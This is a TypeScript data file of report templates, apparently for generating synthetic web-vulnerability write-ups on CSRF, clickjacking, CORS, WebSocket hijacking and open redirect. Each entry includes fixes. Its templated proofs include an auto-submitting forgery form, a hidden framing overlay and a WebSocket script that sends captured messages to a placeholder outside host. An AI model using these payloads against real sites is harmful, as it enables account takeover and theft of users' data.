import { fenced } from "../fenced.ts";
import type { WriteUp } from "../shapes.ts";

/** Weaknesses that let another site act for a visitor. */
export const crossSiteWriteUps: readonly WriteUp[] = [
  {
    key: "csrf",
    cwe: 352,
    kinds: ["page", "team"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:L/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:N/VI:H/VA:N/SC:N/SI:N/SA:N",
    ],
    titles: [
      "CSRF on the {feature} changes settings of the visitor",
      "Cross-site request forgery: token is optional at {path}",
      "{feature} can be submitted from any site",
    ],
    summaries: [
      "The form of the {feature} has a token. Leave the field out, and the request is accepted; only a *wrong* token is refused.",
      "The {feature} takes JSON with the content type `text/plain`. Such a request can be sent by any site, and the session cookie is `SameSite=None`.",
    ],
    details: [
      "The cookie is `SameSite=None` because of the embedded version, I suppose.",
      "Chrome and Firefox both send the cookie; Safari does not.",
    ],
    proofs: [
      fenced(
        "html",
        '<form action="https://{host}{path}" method="post" enctype="text/plain">',
        `  <input name='{"mail":"{mail}","x":"' value='"}'>`,
        "</form>",
        "<script>document.forms[0].submit()</script>",
      ),
    ],
    steps: [
      [
        "Sign in to {product} in {browser}.",
        "Open the page above from another origin.",
        "Look at the {feature}: it has changed.",
      ],
    ],
    impacts: [
      "A visit to a prepared page changes the settings of the victim; with a changed mail address the account follows.",
      "Settings can be changed in the name of people who only read a web page.",
    ],
    fixes: ["Require the token, check `Sec-Fetch-Site`, and set `SameSite=Lax` where nothing is embedded."],
  },
  {
    key: "clickjacking",
    cwe: 1021,
    kinds: ["page"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:L/A:N", "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:N/VI:L/VA:N/SC:N/SI:N/SA:N"],
    titles: ["Clickjacking on the {feature}: one click, no confirmation", "{path} may be framed, and its button does something"],
    summaries: [
      "The {feature} can be shown in a frame of another site. Its main button acts at the first click, so a transparent frame over a game is enough.",
      "`X-Frame-Options: ALLOW-FROM` is ignored by browsers today, so the {feature} is not protected at all.",
    ],
    details: ["I know that framing alone is not accepted. Here one click really changes the setting; see the page attached."],
    proofs: [
      fenced(
        "html",
        '<iframe src="https://{host}{path}" style="opacity:.02;position:absolute;top:-312px;left:-90px;width:1200px;height:900px"></iframe>',
        "<button>Start the game</button>",
      ),
    ],
    steps: [["Sign in.", "Open the page above from another origin.", "Click on “Start the game”.", "The change has been made."]],
    impacts: ["A click on something else changes the victim's settings."],
    fixes: ["`Content-Security-Policy: frame-ancestors 'none'`."],
  },
  {
    key: "cors",
    cwe: 942,
    kinds: ["page", "api", "graph"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:N/A:N", "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:H/I:N/A:N"],
    titles: [
      "CORS: {host} reflects every origin and allows credentials",
      "`null` origin is trusted by the {feature}",
      "Any subdomain may read answers of {path}, expired ones too",
    ],
    summaries: [
      "{host} repeats the `Origin` header in `Access-Control-Allow-Origin` and adds `Allow-Credentials: true`. Every site may therefore read answers for the signed-in user.",
      "The origin `null` is on the list. A sandboxed frame has this origin, on any site.",
    ],
    details: ["The list is a regular expression without an end anchor: `{host}.{oob}` matches."],
    proofs: [
      fenced(
        "console",
        "$ curl -sI https://{host}{path} -H 'Origin: https://{oob}' | grep -i access-control",
        "access-control-allow-origin: https://{oob}",
        "access-control-allow-credentials: true",
      ),
    ],
    steps: [["Sign in.", "On any other site run `fetch('https://{host}{path}', {credentials: 'include'})`.", "Read the answer."]],
    impacts: ["All data that the {feature} shows can be read by sites the user visits."],
    fixes: ["A short list of exact origins."],
  },
  {
    key: "websocket-hijack",
    cwe: 1385,
    kinds: ["socket"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:L/A:N", "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:L/A:N"],
    titles: ["Cross-site WebSocket hijacking of the {feature}", "{feature}: handshake by cookie, origin not checked"],
    summaries: [
      "The {feature} authenticates the handshake with the cookie and does not look at `Origin`. Another site can open the socket in the name of its visitor.",
      "Everything the {feature} sends can be read by a page on a foreign origin that the user happens to have open.",
    ],
    details: ["After the handshake the server sends the last {n} messages by itself."],
    proofs: [
      fenced(
        "js",
        "const s = new WebSocket('wss://{host}{path}');",
        "s.onmessage = (m) => fetch('https://{oob}', { method: 'POST', mode: 'no-cors', body: m.data });",
      ),
    ],
    steps: [["Sign in to {product}.", "Open a page with the script above.", "Messages arrive at `{oob}`."]],
    impacts: ["Live content of the victim is read, and messages are sent in their name."],
    fixes: ["Check `Origin` in the handshake; better, use a ticket that the page must fetch."],
  },
  {
    key: "open-redirect",
    cwe: 601,
    kinds: ["page"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:N/A:N", "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:N/I:L/A:N"],
    titles: ["Open redirect through `{param}` of the {feature}", "`{param}=//{oob}` leaves {host} after signing in"],
    summaries: [
      "`{param}` says where to go after the {feature}. It must begin with `/`, and `//{oob}` does.",
      "A backslash is enough: `/\\{oob}` is a path for your check and a host for the browser.",
    ],
    details: ["The fragment survives the redirect. If it ever carries a token, the token leaves too."],
    proofs: [fenced("text", "https://{host}{path}?{param}=/%5C{oob}/login")],
    steps: [["Open the address above.", "Sign in.", "You are on `{oob}`, which may look like {host}."]],
    impacts: ["A good start for phishing: the link shows your name and your certificate."],
    fixes: ["Parse relative to your own origin and compare the origin of the result."],
  },
];
